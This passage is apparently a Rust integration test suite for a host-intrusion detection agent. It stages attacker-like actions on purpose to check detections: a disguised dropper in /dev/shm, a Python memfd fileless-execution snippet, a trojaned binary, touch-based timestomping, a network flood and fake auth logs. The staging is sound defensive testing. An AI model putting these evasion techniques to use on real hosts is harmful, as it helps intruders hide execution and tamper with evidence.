//! Sensors provoked for real: processes started by the test, accounts and
//! system state read from fixture trees where the real thing cannot be changed
//! safely on a shared machine.

use std::path::Path;
use std::process::{Child, Command};
use std::time::Duration;

use bannin_proto::v1;
use bannin_tests::{
    AgentOptions, CollectorProc, TestPki, eventually, free_port, operator_client, start_agent,
};

use crate::{all_events, all_findings};

/// Kills the child when dropped.
struct Reaped(Child);

impl Drop for Reaped {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn findings_of(findings: &[v1::Finding], kind: &str, pid: u32) -> usize {
    findings
        .iter()
        .filter(|f| f.kind == kind && f.attributes.get("pid") == Some(&pid.to_string()))
        .count()
}

#[tokio::test(flavor = "multi_thread")]
async fn processes_from_dev_shm_with_a_known_bad_hash_are_found_and_known_ones_are_not() {
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    // Running before the agent starts: part of the learned baseline.
    let sleep = which("sleep");
    let _known_before = Reaped(Command::new(&sleep).arg("300").spawn().expect("sleep"));

    // A dropper in /dev/shm: a copy of sleep made unique, so nothing knows its hash.
    let shm = tempfile::tempdir_in("/dev/shm").expect("shm dir");
    let implant = shm.path().join("kworker");
    let mut bytes = std::fs::read(&sleep).expect("read sleep");
    bytes.extend_from_slice(dir.path().to_string_lossy().as_bytes());
    std::fs::write(&implant, &bytes).expect("implant");
    std::fs::set_permissions(
        &implant,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .expect("chmod");
    let sha = {
        use sha2::Digest;
        let d = sha2::Sha256::digest(&bytes);
        d.iter().map(|b| format!("{b:02x}")).collect::<String>()
    };
    let ioc = dir.path().join("ioc.txt");
    std::fs::write(&ioc, format!("# test IOC list\n{sha}  kworker\n")).expect("ioc");

    let _agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("proc-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            enable: vec!["process"],
            sensor_toml: vec![(
                "process",
                format!("ioc_hashes = {:?}", ioc.display().to_string()),
            )],
            ..AgentOptions::default()
        },
    );
    let mut client = operator_client(&pki.operator("alice"), collector.addr).await;
    // The baseline is learned once the first exec telemetry arrives.
    eventually(Duration::from_secs(30), "baseline telemetry", || {
        let mut c = client.clone();
        async move {
            let e = all_events(&mut c, "proc-host", "process.exec").await;
            (!e.is_empty()).then_some(())
        }
    })
    .await;

    let bad = Reaped(Command::new(&implant).arg("300").spawn().expect("implant"));
    let known_after = Reaped(Command::new(&sleep).arg("301").spawn().expect("sleep"));
    let bad_pid = bad.0.id();
    let found = eventually(Duration::from_secs(30), "process findings", || {
        let mut c = client.clone();
        async move {
            let f = all_findings(&mut c).await;
            (findings_of(&f, "process.suspicious_exec", bad_pid) == 1
                && findings_of(&f, "process.ioc_match", bad_pid) == 1
                && findings_of(&f, "process.unknown_binary", bad_pid) == 1)
                .then_some(f)
        }
    })
    .await;
    let ioc_match = found
        .iter()
        .find(|f| f.kind == "process.ioc_match")
        .expect("ioc match");
    assert_eq!(ioc_match.severity, v1::Severity::Critical as i32);
    assert_eq!(ioc_match.attributes["sha256"], sha);
    assert_eq!(
        ioc_match.attributes["exe"],
        implant.display().to_string(),
        "{ioc_match:?}"
    );
    assert_eq!(
        ioc_match.attributes["cmdline"],
        format!("{} 300", implant.display())
    );

    // The known binary started after the baseline raised nothing, but its exec was seen.
    let known_pid = known_after.0.id();
    eventually(
        Duration::from_secs(30),
        "exec telemetry of the known binary",
        || {
            let mut c = client.clone();
            async move {
                let e = all_events(&mut c, "proc-host", "process.exec").await;
                e.iter()
                    .any(|e| {
                        e.event.as_ref().is_some_and(|e| {
                            e.attributes.get("pid") == Some(&known_pid.to_string())
                        })
                    })
                    .then_some(())
            }
        },
    )
    .await;
    let f = all_findings(&mut client).await;
    assert!(
        !f.iter()
            .any(|f| f.attributes.get("pid") == Some(&known_pid.to_string())),
        "a binary from the baseline is not a finding: {f:?}"
    );

    // Fileless: a process that re-executes itself from a memfd runs a deleted
    // executable, and the same pid changing program is noticed.
    let script = format!(
        "import os\nfd = os.memfd_create('kworker', 0)\nos.write(fd, open({:?}, 'rb').read())\nos.execv('/proc/self/fd/%d' % fd, ['kworker', '300'])\n",
        sleep.display().to_string()
    );
    let fileless = Reaped(
        Command::new("python3")
            .args(["-c", &script])
            .spawn()
            .expect("python3"),
    );
    let pid = fileless.0.id().to_string();
    let f = eventually(Duration::from_secs(60), "a deleted executable", || {
        let mut c = client.clone();
        let pid = pid.clone();
        async move {
            let f = all_findings(&mut c).await;
            f.into_iter().find(|f| {
                f.kind == "process.suspicious_exec" && f.attributes.get("pid") == Some(&pid)
            })
        }
    })
    .await;
    assert_eq!(f.attributes["reason"], "deleted_executable", "{f:?}");
    assert!(f.attributes["exe"].starts_with("/memfd:kworker"), "{f:?}");
}

/// Ordinary administration on a Debian host: every tool the package manager
/// installed is known from the package database, so running them for the first
/// time after the agent started raises no `process.unknown_binary`, while a
/// hand-built copy does (the positive signal that the sensor looked).
#[tokio::test(flavor = "multi_thread")]
async fn packaged_tools_run_for_the_first_time_raise_nothing() {
    if !bannin_tests::runnable(&[
        bannin_tests::Need::Root,
        bannin_tests::Need::Program("dpkg", "dpkg"),
    ]) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let _agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("admin-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            enable: vec!["process"],
            ..AgentOptions::default()
        },
    );
    let mut client = operator_client(&pki.operator("alice"), collector.addr).await;
    crate::wait_sensor_ok(&client, "process", Duration::from_secs(60)).await;

    // Tools a responder or an administrator runs, probably not running now.
    let tools = [
        "head", "uniq", "basename", "env", "sort", "wc", "cut", "tr", "od", "stat", "md5sum",
        "sha1sum", "expr", "factor", "nl", "tac", "seq", "cksum",
    ];
    for tool in tools {
        let out = Command::new(which(tool))
            .arg("--version")
            .output()
            .expect("tool");
        assert!(out.status.success(), "{tool} --version");
    }
    // A hand-built tool, unknown to everything: the sensor reports it.
    let hand = dir.path().join("handmade");
    let mut bytes = std::fs::read(which("sleep")).expect("sleep");
    bytes.extend_from_slice(dir.path().to_string_lossy().as_bytes());
    std::fs::write(&hand, &bytes).expect("handmade");
    std::fs::set_permissions(&hand, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
    let hand_path = hand.display().to_string();
    Command::new(&hand).arg("2").status().expect("handmade");
    eventually(
        Duration::from_secs(60),
        "the handmade tool reported",
        || {
            let mut c = client.clone();
            let hand_path = hand_path.clone();
            async move {
                all_findings(&mut c)
                    .await
                    .iter()
                    .any(|f| {
                        f.kind == "process.unknown_binary"
                            && f.attributes.get("exe") == Some(&hand_path)
                    })
                    .then_some(())
            }
        },
    )
    .await;
    let packaged_dirs = ["/usr/bin/", "/usr/sbin/", "/bin/", "/sbin/"];
    let noise: Vec<String> = all_findings(&mut client)
        .await
        .into_iter()
        .filter(|f| f.kind == "process.unknown_binary")
        .filter_map(|f| f.attributes.get("exe").cloned())
        .filter(|exe| packaged_dirs.iter().any(|d| exe.starts_with(d)))
        .collect();
    assert!(
        noise.is_empty(),
        "packaged tools reported as unknown: {noise:?}"
    );
    // And exec telemetry names the package: a coreutils process that lives long
    // enough for the /proc walk too (a lost connector event cannot hide it).
    let sleeper = Reaped(
        Command::new(which("sleep"))
            .arg("5")
            .spawn()
            .expect("sleep"),
    );
    let pid = sleeper.0.id().to_string();
    eventually(
        Duration::from_secs(60),
        "sleep's exec names coreutils",
        || {
            let mut c = client.clone();
            let pid = pid.clone();
            async move {
                all_events(&mut c, "admin-host", "process.exec")
                    .await
                    .iter()
                    .any(|e| {
                        e.event.as_ref().is_some_and(|e| {
                            e.attributes.get("pid") == Some(&pid)
                                && e.attributes
                                    .get("package")
                                    .is_some_and(|p| p.starts_with("coreutils"))
                        })
                    })
                    .then_some(())
            }
        },
    )
    .await;
}

/// A packaged executable whose content no longer matches its package is
/// `file.package_mismatch` (critical: it runs); once the package is reinstalled
/// (the database says the new content), running it raises nothing. The package
/// database is a fixture under the agent's root (its `proc` the real `/proc`), so
/// the test owns what "installed" means; the processes are real.
#[tokio::test(flavor = "multi_thread")]
async fn a_packaged_binary_changed_in_place_is_a_package_mismatch() {
    if !bannin_tests::runnable(&[bannin_tests::Need::Root]) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let root = dir.path().join("root");
    std::fs::create_dir_all(&root).expect("root");
    std::os::unix::fs::symlink("/proc", root.join("proc")).expect("proc link");
    let bin = dir.path().join("opt/vendor/bin");
    std::fs::create_dir_all(&bin).expect("bin");
    let tool = bin.join("vendord");
    let original = std::fs::read(which("sleep")).expect("sleep");
    let mut trojan = original.clone();
    trojan.extend_from_slice(b"\0trojaned");
    std::fs::write(&tool, &trojan).expect("trojan");
    std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
    let listed = tool.display().to_string();
    bannin_agent::host::packages::write_fixture(
        &root,
        &[(
            "vendor-tools",
            "4.2-1",
            &[(listed.as_str(), original.as_slice())],
        )],
    );
    let _agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("pkg-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            enable: vec!["process"],
            root: Some(root.clone()),
            ..AgentOptions::default()
        },
    );
    let mut client = operator_client(&pki.operator("alice"), collector.addr).await;
    crate::wait_sensor_ok(&client, "process", Duration::from_secs(60)).await;
    Command::new(&tool)
        .arg("2")
        .status()
        .expect("run the trojan");
    let mismatch = eventually(Duration::from_secs(60), "file.package_mismatch", || {
        let mut c = client.clone();
        let listed = listed.clone();
        async move {
            all_findings(&mut c).await.into_iter().find(|f| {
                f.kind == "file.package_mismatch" && f.attributes.get("exe") == Some(&listed)
            })
        }
    })
    .await;
    assert_eq!(mismatch.severity, v1::Severity::Critical as i32);
    assert_eq!(mismatch.attributes["package"], "vendor-tools 4.2-1");
    let md5 = |b: &[u8]| {
        use md5::Digest;
        bannin_proto::hex(md5::Md5::digest(b))
    };
    assert_eq!(mismatch.attributes["package_md5"], md5(&original));
    assert_eq!(mismatch.attributes["actual_md5"], md5(&trojan));
    let findings = all_findings(&mut client).await;
    assert!(
        !findings.iter().any(|f| f.kind == "process.unknown_binary"
            && f.attributes.get("exe") == Some(&listed)),
        "a mismatch, not merely unknown"
    );

    // Reinstalled: the file is the package's again (new content, new inode).
    std::fs::remove_file(&tool).expect("remove");
    std::fs::write(&tool, &original).expect("reinstall");
    std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
    let before = findings.len();
    let child = Command::new(&tool).arg("2").spawn().expect("run again");
    let pid = child.id().to_string();
    let _ = { child }.wait();
    // Its exec telemetry proves the sensor judged it; nothing new was raised for it.
    eventually(
        Duration::from_secs(60),
        "the reinstalled tool's exec",
        || {
            let mut c = client.clone();
            let pid = pid.clone();
            async move {
                all_events(&mut c, "pkg-host", "process.exec")
                    .await
                    .iter()
                    .any(|e| {
                        e.event
                            .as_ref()
                            .is_some_and(|e| e.attributes.get("pid") == Some(&pid))
                    })
                    .then_some(())
            }
        },
    )
    .await;
    let after: Vec<_> = all_findings(&mut client)
        .await
        .into_iter()
        .filter(|f| f.attributes.get("pid") == Some(&pid))
        .map(|f| f.kind)
        // (It runs from a temporary directory: process.suspicious_exec is right.)
        .filter(|k| k == "file.package_mismatch" || k == "process.unknown_binary")
        .collect();
    assert!(after.is_empty(), "the reinstalled tool raised {after:?}");
    assert!(all_findings(&mut client).await.len() >= before);
}

/// Where attackers hide things: a dotfile in `/dev/shm` is `file.odd_name`
/// (`hidden`), an ELF written to `/tmp` with its execute bit is
/// `file.executable_dropped` whether or not it runs, and a dotfile in a home
/// directory is ordinary. Real files in the real directories (names unique to this
/// run, removed at the end).
#[tokio::test(flavor = "multi_thread")]
async fn hidden_files_and_dropped_executables_in_volatile_directories() {
    if !bannin_tests::runnable(&[bannin_tests::Need::Root]) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let home = dir.path().join("home");
    std::fs::create_dir_all(&home).expect("home");
    let tag = format!("bannin-e2e-{}", std::process::id());
    let shm_dir = tempfile::tempdir_in("/dev/shm").expect("shm");
    let agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("shm-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            watch: vec!["/dev/shm".into(), "/tmp".into(), home.clone()],
            ..AgentOptions::default()
        },
    );
    let client = operator_client(&pki.operator("alice"), collector.addr).await;
    crate::wait_sensor_ok(&client, "file_odd_name", Duration::from_secs(60)).await;

    let hidden = std::path::PathBuf::from(format!("/dev/shm/.{tag}"));
    std::fs::write(&hidden, b"x").expect("hidden");
    let elf = std::path::PathBuf::from(format!("/tmp/{tag}-kworker"));
    std::fs::copy(which("true"), &elf).expect("elf");
    std::fs::set_permissions(&elf, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
    let at_home = home.join(format!(".{tag}rc"));
    std::fs::write(&at_home, b"x").expect("home dotfile");
    // The positive signal for the negative check: an odd name next to it.
    let trigger = home.join(format!(" {tag}"));
    std::fs::write(&trigger, b"x").expect("trigger");
    let _ = shm_dir;

    let shown = |p: &std::path::Path| p.display().to_string();
    let (hidden_s, elf_s, home_s, trigger_s) = (
        shown(&hidden),
        shown(&elf),
        shown(&at_home),
        shown(&trigger),
    );
    let hidden_f = finding_within(
        &client,
        Duration::from_secs(30),
        "file_odd_name",
        &agent,
        |f| f.kind == "file.odd_name" && f.attributes.get("path") == Some(&hidden_s),
    )
    .await;
    assert_eq!(hidden_f.attributes["reason"], "hidden");
    assert_eq!(hidden_f.attributes["attack.technique"], "T1564.001");
    let dropped = finding_within(
        &client,
        Duration::from_secs(30),
        "file_odd_name",
        &agent,
        |f| f.kind == "file.executable_dropped" && f.attributes.get("path") == Some(&elf_s),
    )
    .await;
    assert_eq!(dropped.attributes["format"], "elf");
    assert_eq!(dropped.severity, v1::Severity::High as i32);
    finding_within(
        &client,
        Duration::from_secs(30),
        "file_odd_name",
        &agent,
        |f| f.attributes.get("path") == Some(&trigger_s),
    )
    .await;
    let mut c = client.clone();
    assert!(
        !all_findings(&mut c)
            .await
            .iter()
            .any(|f| f.attributes.get("path") == Some(&home_s)),
        "a dotfile at home is ordinary"
    );
    let _ = std::fs::remove_file(&hidden);
    let _ = std::fs::remove_file(&elf);
}

/// The quiet learning window: in the first `learn_secs` after the agent's very
/// first start a hand-built binary is learned (its event is kept, marked
/// `learning`), not raised, and `bannin hosts` says the host is learning until
/// when. (Which kinds stay raised in the window is unit-tested in `sensors`.)
#[tokio::test(flavor = "multi_thread")]
async fn the_first_hour_learns_quietly_and_says_so() {
    if !bannin_tests::runnable(&[bannin_tests::Need::Root]) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let watched = dir.path().join("watched");
    std::fs::create_dir_all(&watched).expect("watched");
    let _agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("new-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            enable: vec!["process"],
            learn_secs: 3600,
            ..AgentOptions::default()
        },
    );
    let mut client = operator_client(&pki.operator("alice"), collector.addr).await;
    crate::wait_sensor_ok(&client, "process", Duration::from_secs(60)).await;
    let hand = dir.path().join("handmade");
    let mut bytes = std::fs::read(which("sleep")).expect("sleep");
    bytes.extend_from_slice(b"learning window");
    bytes.extend_from_slice(dir.path().to_string_lossy().as_bytes());
    std::fs::write(&hand, &bytes).expect("handmade");
    std::fs::set_permissions(&hand, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
    let hand_path = hand.display().to_string();
    Command::new(&hand).arg("2").status().expect("run");
    // The positive signal: its exec arrived, marked as learned.
    eventually(Duration::from_secs(60), "the learned exec", || {
        let mut c = client.clone();
        let hand_path = hand_path.clone();
        async move {
            all_events(&mut c, "new-host", "process.unknown_binary")
                .await
                .iter()
                .any(|e| {
                    e.event.as_ref().is_some_and(|e| {
                        e.attributes.get("exe") == Some(&hand_path)
                            && e.attributes.get("learning").map(String::as_str) == Some("true")
                            && !e.indicator
                    })
                })
                .then_some(())
        }
    })
    .await;
    let findings = all_findings(&mut client).await;
    assert!(
        !findings
            .iter()
            .any(|f| f.kind == "process.unknown_binary"
                && f.attributes.get("exe") == Some(&hand_path)),
        "learned quietly, not raised"
    );
    let hosts = client
        .list_hosts(v1::ListHostsRequest {})
        .await
        .expect("hosts")
        .into_inner()
        .hosts;
    let host = hosts
        .iter()
        .find(|h| h.host_id == "new-host")
        .expect("host");
    let baseline = host
        .sensors
        .iter()
        .find(|s| s.name == "baseline")
        .expect("the learning window is reported");
    assert_eq!(baseline.state, "learning", "{baseline:?}");
    assert!(baseline.detail.ends_with('Z'), "until when: {baseline:?}");
}

fn which(name: &str) -> std::path::PathBuf {
    ["/usr/bin", "/bin"]
        .iter()
        .map(|d| std::path::Path::new(d).join(name))
        .find(|p| p.is_file())
        .unwrap_or_else(|| panic!("{name} not found"))
}

/// Promiscuous mode and a traffic flood, for real, on the agent's interface
/// inside a network namespace.
#[test]
fn promiscuous_mode_and_an_inbound_flood_need_root() {
    if !bannin_tests::runnable(&[bannin_tests::Need::Root]) {
        return;
    }
    use bannin_tests::netns::Host;

    let mut site = crate::response::Site::with(|o| {
        o.enable = vec!["net_interface"];
        o.sensor_toml = vec![(
            "net_interface",
            "warmup_samples = 3\nmin_bytes_per_sec = 100000".into(),
        )];
    });
    let findings = |s: &crate::response::Site, kind: &str| -> Vec<serde_json::Value> {
        let (_, f, _) = s.cli(&["findings"]);
        f.as_array()
            .map(|f| f.iter().filter(|f| f["kind"] == kind).cloned().collect())
            .unwrap_or_default()
    };

    let ns = site.lab.ns(Host::Agent);
    let ok = Command::new("ip")
        .args(["-n", &ns, "link", "set", "eth0", "promisc", "on"])
        .status()
        .expect("ip");
    assert!(ok.success());
    site.wait_until(
        |s| !findings(s, "net.promiscuous").is_empty(),
        "net.promiscuous",
    );
    assert_eq!(
        findings(&site, "net.promiscuous")[0]["attributes"]["interface"],
        "eth0"
    );

    // Let the interface learn its quiet baseline, then flood it from the peer.
    std::thread::sleep(Duration::from_secs(5));
    let mut sink = site
        .lab
        .command(Host::Agent, std::path::Path::new("python3"));
    sink.args([
        "-c",
        "import socket\ns=socket.socket(socket.AF_INET6)\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\ns.bind(('::', 9100))\ns.listen(4)\nwhile True:\n    c,_=s.accept()\n    while c.recv(1<<20): pass\n",
    ]);
    let _sink = bannin_tests::Proc::spawn(sink, site.dir.path().join("sink.log"));
    site.wait_until(
        |s| s.lab.can_connect(Host::Peer, &Host::Agent.v4(), 9100),
        "sink listening",
    );
    let mut flood = site
        .lab
        .command(Host::Peer, std::path::Path::new("python3"));
    flood.args([
        "-c",
        &format!(
            "import socket,time\nc=socket.create_connection(('{}', 9100))\nb=b'x'*(1<<16)\nend=time.time()+12\nwhile time.time()<end:\n    c.sendall(b*16)\n    time.sleep(0.02)\n",
            Host::Agent.v4()
        ),
    ]);
    let _flood = bannin_tests::Proc::spawn(flood, site.dir.path().join("flood.log"));
    site.wait_until(
        |s| !findings(s, "traffic.spike").is_empty() && !findings(s, "net.asymmetric").is_empty(),
        "traffic.spike and net.asymmetric",
    );
    let spike = &findings(&site, "traffic.spike")[0];
    assert_eq!(spike["attributes"]["interface"], "eth0");
    assert_eq!(spike["attributes"]["direction"], "receive", "{spike}");
    assert_eq!(
        findings(&site, "traffic.spike").len(),
        1,
        "one finding per episode"
    );
}

/// A real `clamscan` (Debian package) with a one-line signature database over
/// the standard EICAR test file, and auth lines as sshd and sudo write them,
/// reach the collector as findings.
#[tokio::test(flavor = "multi_thread")]
async fn clamav_detections_and_auth_events_from_the_logs() {
    if !bannin_tests::runnable(&[bannin_tests::Need::Program("clamscan", "clamav")]) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let logs = dir.path().join("logs");
    std::fs::create_dir_all(&logs).expect("logs");
    let auth = logs.join("auth.log");
    let scan_log = logs.join("clamscan.log");
    std::fs::write(&auth, "").expect("auth");
    std::fs::write(&scan_log, "").expect("scan log");
    let _agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("av-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            enable: vec!["logs"],
            sensor_toml: vec![(
                "logs",
                format!(
                    "auth_logs = [{:?}]\nclamav_logs = [{:?}]\nsuricata_eve = []\npattern_files = []\n",
                    auth.display().to_string(),
                    scan_log.display().to_string()
                ),
            )],
            ..AgentOptions::default()
        },
    );
    let mut client = operator_client(&pki.operator("alice"), collector.addr).await;
    // The sensor has taken its starting positions once the host reports it healthy.
    crate::wait_sensor_ok(&client, "logs", Duration::from_secs(30)).await;

    let eicar = logs.join("eicar.com");
    std::fs::write(
        &eicar,
        br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    )
    .expect("eicar");
    let sha = {
        use sha2::Digest;
        let d = sha2::Sha256::digest(std::fs::read(&eicar).expect("read"));
        d.iter().map(|b| format!("{b:02x}")).collect::<String>()
    };
    let db = logs.join("bannin-test.hsb");
    std::fs::write(&db, format!("{sha}:68:Bannin.Test.EICAR\n")).expect("db");
    let scan = Command::new("clamscan")
        .arg("--no-summary")
        .arg("-d")
        .arg(&db)
        .arg(format!("--log={}", scan_log.display()))
        .arg(&eicar)
        .output()
        .expect("clamscan must be installed (Debian package clamav); .ci/run installs it");
    assert_eq!(scan.status.code(), Some(1), "clamscan found it: {scan:?}");

    let mut lines = std::fs::OpenOptions::new()
        .append(true)
        .open(&auth)
        .expect("auth");
    std::io::Write::write_all(
        &mut lines,
        concat!(
            "Nov 25 10:00:01 av-host sudo:    mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash\n",
            "Nov 25 10:00:02 av-host sshd[600]: pam_faillock(sshd:auth): Consecutive login failures for user root account temporarily locked\n",
        )
        .as_bytes(),
    )
    .expect("append");

    let found = eventually(Duration::from_secs(30), "log findings", || {
        let mut c = client.clone();
        async move {
            let f = all_findings(&mut c).await;
            let has = |k: &str| f.iter().any(|f| f.kind == k);
            (has("av.detection") && has("account.sudo") && has("account.lockouts")).then_some(f)
        }
    })
    .await;
    let av = found.iter().find(|f| f.kind == "av.detection").expect("av");
    assert_eq!(av.attributes["path"], eicar.display().to_string());
    assert_eq!(av.attributes["signature"], "Bannin.Test.EICAR.UNOFFICIAL");
    let sudo = found
        .iter()
        .find(|f| f.kind == "account.sudo")
        .expect("sudo");
    assert_eq!(sudo.attributes["outcome"], "not_in_sudoers");
    assert_eq!(sudo.severity, v1::Severity::High as i32);
    let _ = &mut client;
}

/// Real files changed under a watched critical path: content, permissions and
/// a timestomp with `touch -d`, each its own finding.
#[tokio::test(flavor = "multi_thread")]
async fn integrity_changes_are_reported_apart() {
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let critical = dir.path().join("critical");
    std::fs::create_dir_all(critical.join("bin")).expect("dir");
    std::fs::write(critical.join("bin/login"), b"original login").expect("login");
    std::fs::write(critical.join("sudoers"), b"root ALL=(ALL) ALL\n").expect("sudoers");
    std::fs::write(critical.join("motd"), b"hello\n").expect("motd");
    let _agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("fim-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            enable: vec!["file_integrity"],
            sensor_toml: vec![(
                "file_integrity",
                format!(
                    "paths = [{:?}]\nlibrary_paths = []\nhash_rate_mib = 0",
                    critical.display().to_string()
                ),
            )],
            ..AgentOptions::default()
        },
    );
    let client = operator_client(&pki.operator("alice"), collector.addr).await;
    crate::wait_sensor_ok(&client, "file_integrity", Duration::from_secs(60)).await;
    // The baseline is in force once a change is reported: a probe file added and
    // seen, rather than a fixed wait.
    let probe = critical.join("probe");
    std::fs::write(&probe, b"probe").expect("probe");
    let probe = probe.display().to_string();
    eventually(Duration::from_secs(30), "the probe reported", || {
        let mut c = client.clone();
        let probe = probe.clone();
        async move {
            all_findings(&mut c)
                .await
                .iter()
                .any(|f| f.kind == "file.modified" && f.attributes.get("path") == Some(&probe))
                .then_some(())
        }
    })
    .await;

    std::fs::write(critical.join("bin/login"), b"trojaned login").expect("trojan");
    let stomp = Command::new("touch")
        .args(["-d", "2019-01-01 00:00:00"])
        .arg(critical.join("bin/login"))
        .status()
        .expect("touch");
    assert!(stomp.success());
    std::fs::set_permissions(
        critical.join("sudoers"),
        std::os::unix::fs::PermissionsExt::from_mode(0o666),
    )
    .expect("chmod");
    std::fs::write(critical.join("bin/backdoor"), b"new").expect("new file");
    let path = |p: &str| critical.join(p).display().to_string();
    let found = eventually(Duration::from_secs(30), "integrity findings", || {
        let mut c = client.clone();
        let (login, sudoers, backdoor) = (path("bin/login"), path("sudoers"), path("bin/backdoor"));
        async move {
            let f = all_findings(&mut c).await;
            let has = |k: &str, p: &str| f.iter().any(|f| f.kind == k && f.attributes["path"] == p);
            (has("file.modified", &login)
                && has("file.timestamps", &login)
                && has("file.permissions", &sudoers)
                && has("file.modified", &backdoor))
            .then_some(f)
        }
    })
    .await;
    let stomp = found
        .iter()
        .find(|f| f.kind == "file.timestamps")
        .expect("timestamps");
    assert_eq!(stomp.attributes["timestomp"], "true");
    let perms = found
        .iter()
        .find(|f| f.kind == "file.permissions")
        .expect("permissions");
    assert_eq!(perms.attributes["old_mode"], "644");
    assert_eq!(perms.attributes["new_mode"], "666");
    assert!(
        !found
            .iter()
            .any(|f| f.attributes.get("path") == Some(&path("motd"))),
        "an untouched file raises nothing"
    );
}

/// Archives found by their magic bytes whatever their name, office documents
/// left alone, and a storm of odd names folded into few findings with counts.
#[tokio::test(flavor = "multi_thread")]
async fn archives_by_magic_and_storms_folded() {
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let watched = dir.path().join("www");
    std::fs::create_dir_all(&watched).expect("dir");
    let agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("files-host"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            watch: vec![watched.clone()],
            ..AgentOptions::default()
        },
    );
    let client = operator_client(&pki.operator("alice"), collector.addr).await;
    crate::wait_sensor_ok(&client, "file_odd_name", Duration::from_secs(30)).await;
    // The sensor reports what is created from now on: a probe reported proves it
    // (rather than a fixed wait); it is left out of the counts below.
    let probe = watched.join(" probe").display().to_string();
    std::fs::write(&probe, b"x").expect("probe");
    finding_within(
        &client,
        Duration::from_secs(30),
        "file_odd_name",
        &agent,
        |f| f.attributes.get("path") == Some(&probe),
    )
    .await;
    let not_probe = |f: &v1::Finding| f.attributes.get("path") != Some(&probe);

    let script = format!(
        "import zipfile\n\
         with zipfile.ZipFile({loot:?}, 'w') as z: z.writestr('db/passwords.txt', 'x'*1000)\n\
         with zipfile.ZipFile({doc:?}, 'w') as z:\n    z.writestr('[Content_Types].xml', '<Types/>')\n    z.writestr('word/document.xml', '<w/>')\n",
        loot = watched.join("report.pdf").display().to_string(),
        doc = watched.join("minutes.docx").display().to_string(),
    );
    let made = Command::new("python3")
        .args(["-c", &script])
        .status()
        .expect("python3");
    assert!(made.success());
    let tar = Command::new("tar")
        .arg("czf")
        .arg(watched.join("backup.tgz"))
        .arg("-C")
        .arg(dir.path())
        .arg("pki")
        .status()
        .expect("tar");
    assert!(tar.success());
    // The storm lands at once: made beside the watched directory, then moved in
    // (one rename), so a loaded machine cannot stretch it over many sweeps.
    let staging = dir.path().join("staging");
    std::fs::create_dir_all(&staging).expect("staging");
    for i in 0..500 {
        std::fs::write(staging.join(format!(" hidden-{i}")), b"x").expect("storm");
    }
    std::fs::rename(&staging, watched.join("dump")).expect("storm lands");
    let path = |p: &str| watched.join(p).display().to_string();
    let found = eventually(
        Duration::from_secs(30),
        "archives and the folded storm",
        || {
            let mut c = client.clone();
            let (loot, tgz) = (path("report.pdf"), path("backup.tgz"));
            async move {
                let f = all_findings(&mut c).await;
                let archive = |p: &str| {
                    f.iter()
                        .any(|f| f.kind == "file.archive" && f.attributes["path"] == p)
                };
                let odd: u64 = f
                    .iter()
                    .filter(|f| f.kind == "file.odd_name" && not_probe(f))
                    .map(|f| {
                        f.attributes
                            .get("folded_count")
                            .and_then(|n| n.parse().ok())
                            .unwrap_or(1)
                    })
                    .sum();
                (archive(&loot) && archive(&tgz) && odd == 500).then_some(f)
            }
        },
    )
    .await;
    let loot = found
        .iter()
        .find(|f| f.kind == "file.archive" && f.attributes["path"] == path("report.pdf"))
        .expect("loot");
    assert_eq!(loot.attributes["format"], "zip");
    assert_eq!(loot.attributes["disguised"], "true");
    let tgz = found
        .iter()
        .find(|f| f.attributes.get("path") == Some(&path("backup.tgz")))
        .expect("tgz");
    assert_eq!(tgz.attributes["format"], "gzip");
    assert_eq!(tgz.attributes["disguised"], "false");
    assert!(
        !found
